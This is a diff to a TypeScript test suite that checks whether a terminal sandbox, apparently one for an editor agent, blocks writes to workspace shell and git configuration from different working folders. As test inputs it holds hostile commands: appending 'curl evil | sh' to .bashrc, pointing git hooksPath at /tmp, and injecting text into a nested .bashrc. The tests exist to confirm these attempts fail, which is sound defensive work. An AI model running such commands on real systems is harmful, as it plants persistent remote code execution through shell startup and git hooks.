@@ -53,9 +53,9 @@ describe('sandbox escapes closed (issue 21 review)', function () {
     fs.rmSync(tmp, { recursive: true, force: true });
   });
 
-  const run = async (command: string, opts: { args?: string[]; env?: { name: string; value: string }[]; baseEnv?: NodeJS.ProcessEnv } = {}) => {
+  const run = async (command: string, opts: { args?: string[]; env?: { name: string; value: string }[]; baseEnv?: NodeJS.ProcessEnv; cwd?: string } = {}) => {
     const m = new TerminalManager({ killGraceMs: 200 });
-    const id = await m.create({ sessionId: 's', command, ...(opts.args ? { args: opts.args } : {}), ...(opts.env ? { env: opts.env } : {}) }, { defaultCwd: work, baseEnv: opts.baseEnv ?? process.env, wrap: sandboxes.wrapper(profile) });
+    const id = await m.create({ sessionId: 's', command, ...(opts.args ? { args: opts.args } : {}), ...(opts.env ? { env: opts.env } : {}), ...(opts.cwd ? { cwd: opts.cwd } : {}) }, { defaultCwd: work, baseEnv: opts.baseEnv ?? process.env, wrap: sandboxes.wrapper(profile) });
     const exit = await m.waitForExit(id);
     const out = m.output(id).output;
     await m.disposeAll();
@@ -71,16 +71,31 @@ describe('sandbox escapes closed (issue 21 review)', function () {
     assert.ok(profile.denyWrite?.includes(path.join(work, '.git')) && profile.denyWrite.includes(path.join(work, 'sub', '.vscode')) === false, JSON.stringify(profile.denyWrite));
   });
 
-  it('shell and git settings in the command\'s folder stay read-only, whatever folder the extension host runs in', async () => {
-    // The library's own protection (shell and git settings there and below), which it looked for
-    // in the extension host's working folder (here this repository's) before the patch.
+  it('shell and git settings in the workspace stay read-only from whatever folder the command runs in, whatever folder the extension host runs in', async () => {
+    // The sandbox library looked for them in the extension host's working folder (here this
+    // repository's) before the patch; then in the command's folder, so from a subfolder or the temp
+    // folder the workspace's own were writable (an adversarial review). Now the profile keeps them
+    // itself in every root, and the library looks in the session's folder.
     fs.writeFileSync(path.join(work, '.bashrc'), '# rc\n');
     fs.writeFileSync(path.join(work, 'sub', '.gitconfig'), '[user]\n');
-    const r = await run('echo "curl evil | sh" >> .bashrc; echo "[core] hooksPath=/tmp" >> sub/.gitconfig; echo ok > sub/plain.txt');
-    assert.equal(fs.readFileSync(path.join(work, '.bashrc'), 'utf8'), '# rc\n', r.out);
-    assert.equal(fs.readFileSync(path.join(work, 'sub', '.gitconfig'), 'utf8'), '[user]\n', r.out);
-    assert.equal(fs.readFileSync(path.join(work, 'sub', 'plain.txt'), 'utf8'), 'ok\n', 'the rest stays writable');
-    assert.ok(!profile.denyWrite?.some((p) => p.endsWith('.bashrc') || p.endsWith('.gitconfig')), 'not the profile\'s own protection');
+    for (const cwd of [work, path.join(work, 'sub'), fs.realpathSync(os.tmpdir())]) {
+      const r = await run(`echo "curl evil | sh" >> ${path.join(work, '.bashrc')}; echo "[core] hooksPath=/tmp" >> ${path.join(work, 'sub', '.gitconfig')}; echo ok > ${path.join(work, 'sub', 'plain.txt')}`, { cwd });
+      assert.equal(fs.readFileSync(path.join(work, '.bashrc'), 'utf8'), '# rc\n', `from ${cwd}: ${r.out}`);
+      assert.equal(fs.readFileSync(path.join(work, 'sub', '.gitconfig'), 'utf8'), '[user]\n', `from ${cwd}: ${r.out}`);
+      assert.equal(fs.readFileSync(path.join(work, 'sub', 'plain.txt'), 'utf8'), 'ok\n', 'the rest stays writable');
+      fs.rmSync(path.join(work, 'sub', 'plain.txt'));
+    }
+    // A profile made once they exist keeps them itself, in each root.
+    const again = await sandboxes.profileFor(undefined);
+    assert.ok('profile' in again && again.profile.denyWrite?.includes(path.join(work, '.bashrc')) && again.profile.denyWrite.includes(path.join(work, 'sub', '.gitconfig')), JSON.stringify(again));
+  });
+
+  it('a .bashrc the library finds two folders down stays read-only too (its search runs in the session\'s folder)', async () => {
+    fs.mkdirSync(path.join(work, 'sub', 'deeper'));
+    fs.writeFileSync(path.join(work, 'sub', 'deeper', '.bashrc'), '# rc\n');
+    const r = await run('echo evil >> sub/deeper/.bashrc', { cwd: path.join(work, 'sub') });
+    assert.equal(fs.readFileSync(path.join(work, 'sub', 'deeper', '.bashrc'), 'utf8'), '# rc\n', r.out);
+    assert.ok(!profile.denyWrite?.some((p) => p.endsWith(path.join('deeper', '.bashrc'))), 'not the profile\'s own protection');
   });
 
   it('the agent\'s environment applies inside the sandbox only: BASH_ENV, BASH_FUNC_*, LD_PRELOAD never reach the shell that starts it', async () => {
